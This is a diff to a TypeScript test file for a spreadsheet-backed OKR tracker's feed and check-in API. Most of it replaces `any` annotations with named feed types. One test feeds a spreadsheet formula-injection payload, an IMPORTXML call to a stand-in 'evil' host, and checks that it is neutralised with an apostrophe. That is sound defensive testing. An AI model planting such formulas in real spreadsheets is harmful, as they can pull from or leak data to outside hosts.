@@ -4,6 +4,7 @@ import { readFileSync } from 'node:fs';
 import { afterEach, describe, expect, it } from 'vitest';
 import Ajv2020 from 'ajv/dist/2020.js';
 import { trackerIdentity } from '../../apps-script/tracker-identity.js';
+import type { FeedCheckIn, FeedKeyResult, FeedKpi } from '../../shared/feed.js';
 import { get, newTracker, NOW, post, publish, type Tracker } from './harness.js';
 
 const schema = JSON.parse(readFileSync(new URL('../../shared/feed/feed.schema.json', import.meta.url), 'utf8'));
@@ -34,7 +35,7 @@ describe('GET: the feed', () => {
     const feed = get(tracker, { token });
     const sheet = Object.fromEntries(tracker.records('Key Results').map((r) => [r.ID, r.Grade]));
     for (const kr of feed.keyResults) expect(kr.grade).toBeCloseTo(sheet[kr.id] as number, 12);
-    expect(feed.keyResults.filter((k: any) => k.due).map((k: any) => k.id)).toEqual(['KR2', 'KR4', 'KR5', 'KR6']);
+    expect(feed.keyResults.filter((k: FeedKeyResult) => k.due).map((k: FeedKeyResult) => k.id)).toEqual(['KR2', 'KR4', 'KR5', 'KR6']);
     const objectives = Object.fromEntries(tracker.records('Objectives').map((r) => [r.ID, [r.Grade, r.Status]]));
     expect(feed.objectives).toHaveLength(4);
     for (const o of feed.objectives) {
@@ -99,12 +100,12 @@ describe('POST: a check-in', () => {
     const { tracker, token } = published();
     get(tracker, { token });
     const answer = post(tracker, checkIn(token, { value: 9 }));
-    const kr6 = get(tracker, { token }).keyResults.find((k: any) => k.id === 'KR6');
+    const kr6 = get(tracker, { token }).keyResults.find((k: FeedKeyResult) => k.id === 'KR6');
     expect(kr6.current).toBe(9);
     // The answer is computed from the key result's own rows only; it must equal the full feed's entry.
     expect(answer.keyResult).toEqual(kr6);
     const kpi = post(tracker, checkIn(token, { id: 'KPI4', value: 520 }));
-    expect(kpi.kpi).toEqual(get(tracker, { token }).kpis.find((k: any) => k.id === 'KPI4'));
+    expect(kpi.kpi).toEqual(get(tracker, { token }).kpis.find((k: FeedKpi) => k.id === 'KPI4'));
     expect(kpi.kpi.status).toBe('healthy');
   });
 
@@ -149,7 +150,7 @@ describe('POST: a check-in', () => {
     // The cell keeps the guard's apostrophe (a CSV download stays safe); the feed gives the note as sent.
     expect(tracker.records('Check-ins').at(-1)!.Note).toBe('\'=IMPORTXML("http://evil","//a")');
     const feed = get(tracker, { token, fresh: 'after' });
-    expect(feed.keyResults.find((k: any) => k.id === 'KR6').history.at(-1).note).toBe('=IMPORTXML("http://evil","//a")');
+    expect(feed.keyResults.find((k: FeedKeyResult) => k.id === 'KR6').history.at(-1).note).toBe('=IMPORTXML("http://evil","//a")');
   });
 
   it('answers conflict when the tracker stays locked', () => {
@@ -196,7 +197,7 @@ describe('GET ?since=: fresh without cost', () => {
     tracker.runtime.clock.advance(11 * 60_000);
     tracker.runtime.calls.reset();
     const again = get(tracker, { token, since: feed.revision });
-    expect(again.keyResults.find((k: any) => k.id === 'KR6').title).toBe('Sign 14 launch partners');
+    expect(again.keyResults.find((k: FeedKeyResult) => k.id === 'KR6').title).toBe('Sign 14 launch partners');
     // The content hash in the revision moved, though no onEdit bumped the counter.
     expect(again.revision).not.toBe(feed.revision);
     expect(tracker.runtime.calls.count('Range.getValues')).toBeGreaterThan(0);
@@ -258,7 +259,7 @@ describe('POST with seenLastCheckIn: conflict answers', () => {
   const hour = 3_600_000;
 
   function seenKr6(tracker: Tracker, token: string): { seen: string; time: number } {
-    const seen = get(tracker, { token }).keyResults.find((k: any) => k.id === 'KR6').lastCheckIn as string;
+    const seen = get(tracker, { token }).keyResults.find((k: FeedKeyResult) => k.id === 'KR6').lastCheckIn as string;
     return { seen, time: Date.parse(seen) };
   }
 
@@ -275,12 +276,12 @@ describe('POST with seenLastCheckIn: conflict answers', () => {
     const answer = post(tracker, checkIn(token, { value: 7, seenLastCheckIn: seen }));
     expect(tracker.records('Check-ins')).toHaveLength(before + 1);
     expect(tracker.records('Check-ins').at(-1)).toMatchObject({ ID: 'KR6', Value: 7, 'Request ID': answer.checkIn.requestId });
-    expect(answer.since.map((c: any) => [c.time, c.id, c.value, c.by])).toEqual([
+    expect(answer.since.map((c: FeedCheckIn) => [c.time, c.id, c.value, c.by])).toEqual([
       [new Date(time + hour).toISOString(), 'KR6', 8, 'bob@example.com'],
       [new Date(time + 2 * hour).toISOString(), 'KR6', 9, 'carol@example.com'],
     ]);
     // The answer's key result is the newest state, the same the feed now serves.
-    expect(answer.keyResult).toEqual(get(tracker, { token }).keyResults.find((k: any) => k.id === 'KR6'));
+    expect(answer.keyResult).toEqual(get(tracker, { token }).keyResults.find((k: FeedKeyResult) => k.id === 'KR6'));
   });
 
   it('lists nothing when nobody checked in since the view', () => {
@@ -294,8 +295,8 @@ describe('POST with seenLastCheckIn: conflict answers', () => {
     const logged = tracker.records('Check-ins').filter((r) => r.ID === 'KR6').length;
     const answer = post(tracker, checkIn(token, { seenLastCheckIn: null }));
     expect(answer.since).toHaveLength(logged);
-    expect(answer.since.every((c: any) => c.id === 'KR6')).toBe(true);
-    const times = answer.since.map((c: any) => Date.parse(c.time));
+    expect(answer.since.every((c: FeedCheckIn) => c.id === 'KR6')).toBe(true);
+    const times = answer.since.map((c: FeedCheckIn) => Date.parse(c.time));
     expect(times).toEqual([...times].sort((a, b) => a - b));
   });
 
@@ -313,7 +314,7 @@ describe('POST with seenLastCheckIn: conflict answers', () => {
     const retry = post(tracker, request);
     expect(retry.duplicate).toBe(true);
     expect(retry.since).toEqual(first.since);
-    expect(first.since.map((c: any) => c.requestId)).toEqual(['bob-00002']);
+    expect(first.since.map((c: FeedCheckIn) => c.requestId)).toEqual(['bob-00002']);
   });
 
   it('refuses a seenLastCheckIn that is not a time, writing nothing', () => {
